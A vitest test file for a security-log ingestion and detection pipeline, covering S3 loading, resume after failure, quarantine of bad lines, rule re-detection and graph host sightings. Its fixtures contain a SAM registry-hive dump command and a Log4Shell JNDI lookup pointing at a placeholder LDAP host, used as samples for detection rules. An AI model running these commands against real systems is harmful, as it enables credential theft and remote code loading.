import { describe, expect, it } from "vitest";
import { InvalidInputError } from "../../../../layers/core/errors";
import { DETECTION_RULES, type Detection } from "../../../../layers/core/security-logs/detection-rules";
import {
  type Chunk,
  type EventRow,
  FINAL_STATUSES,
  hostSightings,
  type IngestLogDeps,
  ingestLogObject,
  ingestS3Event,
  isGraphAddress,
  type LedgerState,
  type LedgerStatus,
  type LogMember,
  type RejectedLine,
  redetect,
} from "../../../../layers/core/security-logs/ingest-log-object";
import { type LogObjectRef, ObjectSupersededError } from "../../../../layers/core/security-logs/log-object";

const enc = new TextEncoder();
async function* bytes(text: string, pieces = 3) {
  const all = enc.encode(text);
  const size = Math.ceil(all.length / pieces);
  for (let i = 0; i < all.length; i += size) yield all.subarray(i, i + size);
}

const line = (i: number, extra: Record<string, unknown> = {}) =>
  JSON.stringify({
    TimeCreated: `2020-10-18 10:56:${String(i).padStart(2, "0")}.000`,
    Hostname: "WS1",
    Channel: "Security",
    EventID: 4688,
    NewProcessName: "C:\\Windows\\System32\\reg.exe",
    CommandLine: i === 3 ? "reg.exe save HKLM\\sam sam" : "reg.exe query HKLM\\x",
    ...extra,
  });
const sysmon = (i: number) =>
  JSON.stringify({
    TimeCreated: `2020-10-18 10:56:${String(i).padStart(2, "0")}.000`,
    UtcTime: `2020-10-19 02:56:${String(i).padStart(2, "0")}.000`,
    Hostname: "WS1",
    EventID: 1,
  });

/**
 * In-memory stand-ins for S3, Postgres and Neo4j that keep what the ports promise: keyed events
 * (first write wins), a ledger whose final rows never change, one quarantine object per key.
 */
function world(objects: Record<string, { text: string; metadata?: Record<string, string> }>) {
  const ledger = new Map<string, LedgerState & { attempts: number }>();
  const events = new Map<string, EventRow>();
  const rejects = new Map<string, RejectedLine>();
  const quarantine = new Map<string, readonly Record<string, unknown>[]>();
  const detections: Detection[] = [];
  const graph: unknown[] = [];
  const opened: string[] = [];
  const id = (r: LogObjectRef) => `${r.key}@${r.etag}`;
  const deps: IngestLogDeps = {
    source: {
      async head(ref) {
        const o = objects[ref.key];
        return o && ref.etag === "e1"
          ? { size: o.text.length, lastModified: new Date(0), userMetadata: o.metadata ?? {} }
          : null;
      },
      async *members(ref): AsyncGenerator<LogMember> {
        opened.push(ref.key);
        const o = objects[ref.key];
        if (!o) throw new ObjectSupersededError(ref);
        if (o.text === "CORRUPT")
          throw new InvalidInputError(`s3://${ref.bucket}/${ref.key}`, "not a readable zip: bad");
        yield { name: "", bytes: bytes(o.text) };
      },
      async readText(_bucket, key) {
        const o = objects[key];
        return o ? { text: o.text, etag: "e1" } : null;
      },
    },
    store: {
      async state(ref) {
        return ledger.get(id(ref)) ?? null;
      },
      async begin(ref, load) {
        const row = ledger.get(id(ref));
        if (row && FINAL_STATUSES.has(row.status)) return row;
        if (row) {
          row.attempts += 1;
          return row;
        }
        const fresh = {
          status: "loading" as LedgerStatus,
          linesDone: 0,
          eventsLoaded: 0,
          linesRejected: 0,
          detections: 0,
          techniques: load.metadata.techniques,
          error: null,
          attempts: 1,
        };
        ledger.set(id(ref), fresh);
        return fresh;
      },
      async commitChunk(ref, chunk: Chunk) {
        let inserted = 0;
        for (const e of chunk.events) {
          if (events.has(e.event_key)) continue;
          events.set(e.event_key, e);
          inserted += 1;
        }
        let rejected = 0;
        for (const r of chunk.rejects) {
          const k = `${id(ref)}|${r.line_no}`;
          if (rejects.has(k)) continue;
          rejects.set(k, r);
          rejected += 1;
        }
        const row = ledger.get(id(ref));
        if (row) {
          row.linesDone = Math.max(row.linesDone, chunk.linesDone);
          row.eventsLoaded += inserted;
          row.linesRejected += rejected;
          if (chunk.last) row.status = "detecting";
        }
        return { inserted, rejected };
      },
      async *scan() {
        yield [...events.values()];
      },
      async hostAddresses() {
        return [
          { host: "ws1", ip: "10.0.0.1", firstSeen: "a", lastSeen: "b" },
          { host: "ws1", ip: "0.0.0.0", firstSeen: "a", lastSeen: "b" },
        ];
      },
      async saveDetections(_ref, found) {
        detections.splice(0, detections.length, ...found);
      },
      async loadedVersions(bucket, prefix) {
        return [...ledger]
          .filter(([k, row]) => k.startsWith(prefix) && row.status === "loaded")
          .map(([k, row]) => {
            const [key = "", etag = ""] = k.split("@");
            return { ref: { bucket, key, etag, size: null }, detections: row.detections };
          });
      },
      async replaceDetections(ref, found) {
        const row = ledger.get(id(ref));
        if (row?.status !== "loaded") return false;
        detections.splice(0, detections.length, ...found);
        row.detections = found.length;
        return true;
      },
      async finish(ref, outcome) {
        const row = ledger.get(id(ref));
        if (row)
          Object.assign(row, {
            status: outcome.status,
            error: outcome.error,
            detections: outcome.detections,
          });
        return outcome.status;
      },
      async applyMetadata() {
        return 0;
      },
    },
    quarantine: {
      async putLines(key, lines) {
        quarantine.set(key, lines);
      },
    },
    graph: {
      async merge(o) {
        graph.push(o);
      },
    },
  };
  return { deps, ledger, events, rejects, quarantine, detections, graph, opened };
}

const ref = (key: string, etag = "e1"): LogObjectRef => ({ bucket: "b", key, etag, size: null });
const options = { chunkLines: 2, chunkBytes: 1 << 20, maxLineBytes: 1 << 16 };

describe("ingestLogObject", () => {
  it("loads every line, learns the clock ahead for the lines before the first UtcTime, and detects", async () => {
    const w = world({ "raw-logs/a.json": { text: [line(1), line(2), line(3), sysmon(4)].join("\n") } });
    const s = await ingestLogObject(w.deps, ref("raw-logs/a.json"), options);
    expect(s).toMatchObject({ outcome: "loaded", lines: 4, inserted: 4, events: 4, detections: 1 });
    const times = [...w.events.values()].map((e) => e.event_time);
    expect(times).toEqual([
      "2020-10-19T02:56:01.000000Z",
      "2020-10-19T02:56:02.000000Z",
      "2020-10-19T02:56:03.000000Z",
      "2020-10-19T02:56:04.000000Z",
    ]);
    // The object was read twice: once to learn its clock, once to load it.
    expect(w.opened).toEqual(["raw-logs/a.json", "raw-logs/a.json"]);
    expect(w.detections.map((d) => d.rule.id)).toEqual(["sam-hive-dump"]);
    expect(w.graph).toEqual([
      {
        techniques: [
          {
            host: "ws1",
            technique: "T1003.002",
            rules: ["sam-hive-dump"],
            firstSeen: times[2],
            lastSeen: times[2],
          },
        ],
        vulnerabilities: [],
        addresses: [{ host: "ws1", ip: "10.0.0.1", firstSeen: "a", lastSeen: "b" }],
      },
    ]);
  });

  it("changes nothing on a second delivery", async () => {
    const w = world({ "raw-logs/a.json": { text: [line(1), line(2)].join("\n") } });
    await ingestLogObject(w.deps, ref("raw-logs/a.json"), options);
    const again = await ingestLogObject(w.deps, ref("raw-logs/a.json"), options);
    expect(again).toMatchObject({ outcome: "duplicate", inserted: 0, events: 2 });
    expect(w.ledger.get("raw-logs/a.json@e1")?.attempts).toBe(1);
  });

  it("resumes after the last committed chunk when a delivery died", async () => {
    const w = world({ "raw-logs/a.json": { text: [1, 2, 3, 4, 5].map((i) => line(i)).join("\n") } });
    const commit = w.deps.store.commitChunk;
    let calls = 0;
    const dying = {
      ...w.deps,
      store: {
        ...w.deps.store,
        commitChunk: async (r: LogObjectRef, c: Chunk) => {
          const out = await commit(r, c);
          calls += 1;
          if (calls === 2) throw new Error("killed");
          return out;
        },
      },
    };
    await expect(
      ingestLogObject(dying, ref("raw-logs/a.json"), { ...options, chunkLines: 1 }),
    ).rejects.toThrow("killed");
    expect(w.ledger.get("raw-logs/a.json@e1")).toMatchObject({
      status: "loading",
      linesDone: 2,
      eventsLoaded: 2,
    });
    const s = await ingestLogObject(w.deps, ref("raw-logs/a.json"), { ...options, chunkLines: 1 });
    expect(s).toMatchObject({ outcome: "loaded", resumedFrom: 2, inserted: 3, events: 5 });
    expect(w.events.size).toBe(5);
  });

  it("quarantines bad lines with their numbers and refuses a file with no event", async () => {
    const w = world({
      "raw-logs/mixed.json": { text: [line(1), "type=SYSCALL msg=audit(1.1:2): x", "", "{oops"].join("\n") },
      "raw-logs/audit.json": { text: "type=SYSCALL msg=audit(1.1:2): x\ntype=CWD msg=audit(1.1:2): cwd=/" },
    });
    const mixed = await ingestLogObject(w.deps, ref("raw-logs/mixed.json"), options);
    expect(mixed).toMatchObject({ outcome: "loaded", events: 1, rejected: 2, lines: 4 });
    expect([...w.quarantine.keys()]).toEqual([
      "quarantine/security-logs/b/raw-logs/mixed.json/e1/lines-1-2.jsonl",
      "quarantine/security-logs/b/raw-logs/mixed.json/e1/lines-3-4.jsonl",
    ]);
    expect(w.quarantine.get("quarantine/security-logs/b/raw-logs/mixed.json/e1/lines-3-4.jsonl")).toEqual([
      expect.objectContaining({ file: "raw-logs/mixed.json", line: 4, reason: "not_json", text: "{oops" }),
    ]);
    const audit = await ingestLogObject(w.deps, ref("raw-logs/audit.json"), options);
    expect(audit).toMatchObject({ outcome: "refused", events: 0, rejected: 2 });
    expect(audit.reason).toMatch(
      /^no line is an event \(2 rejected\); first: raw-logs\/audit\.json line 1: raw_text \(Linux auditd text/,
    );
  });

  it("refuses an unsupported type or a corrupt archive, and records a version that is gone as superseded", async () => {
    const w = world({
      "raw-logs/x.csv": { text: "a,b" },
      "raw-logs/c.zip": { text: "CORRUPT" },
      "raw-logs/d.json": { text: line(1) },
    });
    expect(await ingestLogObject(w.deps, ref("raw-logs/x.csv"), options)).toMatchObject({
      outcome: "refused",
    });
    const corrupt = await ingestLogObject(w.deps, ref("raw-logs/c.zip"), options);
    expect(corrupt).toMatchObject({
      outcome: "refused",
      reason: expect.stringMatching(/not a readable zip/),
    });
    expect(await ingestLogObject(w.deps, ref("raw-logs/d.json", "e0"), options)).toMatchObject({
      outcome: "superseded",
    });
  });

  it("takes techniques from the sidecar and S3 user metadata, warning about a bad sidecar", async () => {
    const w = world({
      "raw-logs/a.json": {
        text: line(1, { UtcTime: "2020-10-19 02:56:01" }),
        metadata: { "attack-techniques": "T1003.002" },
      },
      "raw-logs/a.yaml": { text: "attack_mappings:\n  - technique: T1003\n    sub-technique: '001'\n" },
      "raw-logs/b.json": {
        text: line(1, { UtcTime: "2020-10-19 02:56:01" }),
        metadata: { "dataset-metadata": "raw-logs/otrf/missing.yaml" },
      },
      "raw-logs/b.yml": { text: "attack_techniques: [nope]" },
    });
    const a = await ingestLogObject(w.deps, ref("raw-logs/a.json"), options);
    expect(a).toMatchObject({ techniques: ["T1003.001", "T1003.002"], warnings: [] });
    expect([...w.events.values()][0]?.attack_techniques).toEqual(["T1003.001", "T1003.002"]);
    const b = await ingestLogObject(w.deps, ref("raw-logs/b.json"), options);
    expect(b.outcome).toBe("loaded");
    expect(b.warnings).toEqual([
      expect.stringMatching(/^metadata ignored: s3:\/\/b\/raw-logs\/b\.yml: attack_techniques\.0/),
      "x-amz-meta-dataset-metadata names s3://b/raw-logs/otrf/missing.yaml, which does not exist",
    ]);
  });
});

describe("the graph's host sightings", () => {
  it("links a host to the CVE a rule that fired names, beside the rule's technique", async () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
    const jndi = (i: number) => line(i, { CommandLine: "curl -A '${jndi:ldap://203.0.113.9/a}' http://x" });
    const w = world({ "raw-logs/j.json": { text: [jndi(1), line(2), jndi(4)].join("\n") } });
    await ingestLogObject(w.deps, ref("raw-logs/j.json"), options);
    const times = [...w.events.values()].map((e) => e.event_time);
    const [merged] = w.graph as Array<{ techniques: unknown[]; vulnerabilities: unknown[] }>;
    const log4shell = {
      host: "ws1",
      rules: ["log4shell-jndi-lookup"],
      firstSeen: times[0],
      lastSeen: times[2],
    };
    expect(merged?.vulnerabilities).toEqual([{ ...log4shell, cve: "CVE-2021-44228" }]);
    expect(merged?.techniques).toEqual([{ ...log4shell, technique: "T1190" }]);
  });

  it("groups by host and target, widens the span, names each rule once and skips what has no host", () => {
    const rule = (id: string, technique: string, cve?: string) =>
      ({ id, technique, cve }) as unknown as Detection["rule"];
    const d = (host: string | null, r: Detection["rule"], first: string, last: string): Detection => ({
      rule: r,
      host,
      evidence: [],
      evidenceCount: 1,
      firstEventAt: first,
      lastEventAt: last,
    });
    const a = rule("a", "T1190", "CVE-2021-44228");
    const b = rule("b", "T1190");
    const detections = [
      d("h1", a, "2020-01-02", "2020-01-03"),
      d("h1", b, "2020-01-01", "2020-01-02"),
      d("h1", a, "2020-01-02", "2020-01-05"),
      d("h2", b, "2020-01-04", "2020-01-04"),
      d(null, a, "2020-01-01", "2020-01-09"),
    ];
    expect(hostSightings(detections, (x) => x.rule.technique)).toEqual([
      { host: "h1", target: "T1190", rules: ["a", "b"], firstSeen: "2020-01-01", lastSeen: "2020-01-05" },
      { host: "h2", target: "T1190", rules: ["b"], firstSeen: "2020-01-04", lastSeen: "2020-01-04" },
    ]);
    expect(hostSightings(detections, (x) => x.rule.cve)).toEqual([
      { host: "h1", target: "CVE-2021-44228", rules: ["a"], firstSeen: "2020-01-02", lastSeen: "2020-01-05" },
    ]);
  });
});

describe("redetect", () => {
  // The rules as they stood before the JNDI rule: what loaded then found nothing in these lines.
  const withoutJndi = {
    ...DETECTION_RULES,
    digest: "before-jndi",
    rules: DETECTION_RULES.rules.filter((r) => r.id !== "log4shell-jndi-lookup"),
  };
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
  const jndi = (i: number) => line(i, { CommandLine: "curl -A '${jndi:ldap://203.0.113.9/a}' http://x" });

  it("runs the current rules again over loaded versions: detections, ledger count and graph", async () => {
    const w = world({ "raw-logs/j.json": { text: [jndi(1), line(2)].join("\n") } });
    await ingestLogObject({ ...w.deps, rules: withoutJndi }, ref("raw-logs/j.json"), options);
    expect(w.detections).toEqual([]);
    expect(w.graph).toHaveLength(1);
    const seen: string[] = [];
    const done = await redetect(w.deps, "b", "raw-logs/", (r, i, total) =>
      seen.push(`${i + 1}/${total} ${r.key} ${r.outcome}`),
    );
    expect(done).toEqual([
      { key: "raw-logs/j.json", etag: "e1", outcome: "redetected", before: 0, detections: 1 },
    ]);
    expect(seen).toEqual(["1/1 raw-logs/j.json redetected"]);
    expect(w.detections.map((d) => d.rule.id)).toEqual(["log4shell-jndi-lookup"]);
    expect(w.ledger.get("raw-logs/j.json@e1")?.detections).toBe(1);
    const merged = w.graph[1] as { vulnerabilities: { cve: string }[] };
    expect(merged.vulnerabilities.map((v) => v.cve)).toEqual(["CVE-2021-44228"]);
    // Outside the prefix: nothing.
    expect(await redetect(w.deps, "b", "raw-logs/other/")).toEqual([]);
  });

  it("writes nothing for a version a newer one superseded while the rules ran", async () => {
    const w = world({ "raw-logs/j.json": { text: jndi(1) } });
    await ingestLogObject({ ...w.deps, rules: withoutJndi }, ref("raw-logs/j.json"), options);
    const store = w.deps.store;
    const racing = {
      ...w.deps,
      store: {
        ...store,
        async *scan(r: LogObjectRef, size: number) {
          yield* store.scan(r, size);
          const row = w.ledger.get("raw-logs/j.json@e1");
          if (row) row.status = "superseded";
        },
      },
    };
    expect(await redetect(racing, "b", "raw-logs/")).toEqual([
      { key: "raw-logs/j.json", etag: "e1", outcome: "superseded", before: 0, detections: 0 },
    ]);
    expect(w.detections).toEqual([]);
    expect(w.graph).toHaveLength(1);
  });
});

describe("ingestS3Event and the graph's addresses", () => {
  it("handles every ObjectCreated record of an event", async () => {
    const w = world({ "raw-logs/a b.json": { text: sysmon(1) } });
    const event = {
      Records: [
        {
          eventSource: "aws:s3",
          eventName: "ObjectCreated:Put",
          s3: { bucket: { name: "b" }, object: { key: "raw-logs/a+b.json", eTag: "e1" } },
        },
        {
          eventSource: "aws:s3",
          eventName: "ObjectRemoved:Delete",
          s3: { bucket: { name: "b" }, object: { key: "raw-logs/a+b.json" } },
        },
      ],
    };
    const out = await ingestS3Event(w.deps, event, options);
    expect(out.map((s) => [s.key, s.outcome])).toEqual([["raw-logs/a b.json", "loaded"]]);
  });

  it("keeps unspecified and loopback addresses out of the graph", () => {
    expect(["0.0.0.0", "::", "::1", "127.0.0.1"].map(isGraphAddress)).toEqual([false, false, false, false]);
    expect(["10.0.0.1", "168.63.129.16", "fe80::1"].map(isGraphAddress)).toEqual([true, true, true]);
  });
});
